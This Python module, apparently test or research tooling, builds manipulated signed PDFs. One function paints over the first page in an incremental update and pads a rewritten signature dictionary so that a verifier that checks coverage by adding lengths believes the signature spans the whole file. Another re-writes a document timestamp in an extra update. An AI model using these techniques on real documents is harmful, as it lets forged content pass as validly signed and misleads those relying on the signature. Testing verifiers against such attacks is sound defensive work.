"""What an attacker makes of a signed PDF, where it takes more than appending to it."""

from __future__ import annotations

import io
import re
from typing import BinaryIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import enumerate_sig_fields

__all__ = ["byte_range", "signature_in_another_place", "timestamp_written_again"]

_PICTURE = b"q 1 1 1 rg 0 0 595 842 re f Q"


def byte_range(content: bytes) -> tuple[int, int, int, int]:
    """The first signature's."""
    found = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", content)
    assert found is not None
    first, second, third, fourth = (int(number) for number in found.groups())
    return first, second, third, fourth


def signature_in_another_place(signed: bytes, commands: bytes = _PICTURE) -> bytes:
    """``signed`` with its first page painted over in an update, which also writes the signature's dictionary anew: the
    same signed bytes and the same value, padded so that *length of the signed bytes + length of the value in
    hexadecimal* is the length of the new file. Who reckons like that sees a signature over the whole file."""
    padding = 0
    for _ in range(8):
        made = _moved(signed, commands, padding)
        _, first, _, second = byte_range(signed)
        missing = len(made) - (first + second + _value_length(signed, padding) * 2 + 2)
        if missing == 0:
            return made
        # One octet of padding makes the file one octet longer and the reckoned length two.
        padding += missing
    raise AssertionError("the lengths do not come out even")


def timestamp_written_again(content: bytes) -> bytes:
    """``content`` with the dictionary of its document timestamp, as it is, in one more update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(content))
    for _, value, _ in enumerate_sig_fields(writer.prev, filled_status=True):
        old = value.get_object()
        if old.get("/SubFilter") == "/ETSI.RFC3161":
            writer.objects[(old.container_ref.generation, old.container_ref.idnum)] = old
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _value_length(signed: bytes, padding: int) -> int:
    _, first, start, _ = byte_range(signed)
    return (start - first - 2) // 2 + padding


def _moved(signed: bytes, commands: bytes, padding: int) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    ((_, value, _),) = enumerate_sig_fields(writer.prev, filled_status=True)
    old = value.get_object() if isinstance(value, generic.IndirectObject) else value
    _, first, start, _ = byte_range(signed)
    whole = bytes.fromhex(signed[first + 1 : start - 1].decode()) + bytes(padding)
    copy = generic.DictionaryObject({key: old.raw_get(key) for key in old if key not in ("/Contents", "/ByteRange")})
    copy[generic.pdf_name("/ByteRange")] = generic.ArrayObject(generic.NumberObject(n) for n in byte_range(signed))
    copy[generic.pdf_name("/Contents")] = _Literal(whole)
    writer.objects[(old.container_ref.generation, old.container_ref.idnum)] = copy
    writer.add_stream_to_page(0, writer.add_object(generic.StreamObject(stream_data=commands)))
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


class _Literal(generic.ByteStringObject):
    """A string in parentheses: one octet of it takes one octet of the file, in hexadecimal it would take two."""

    def write_to_stream(self, stream: BinaryIO, handler: object = None, container_ref: object = None) -> None:
        escaped = bytes(self).replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)").replace(b"\r", b"\\r")
        stream.write(b"(" + escaped + b")")
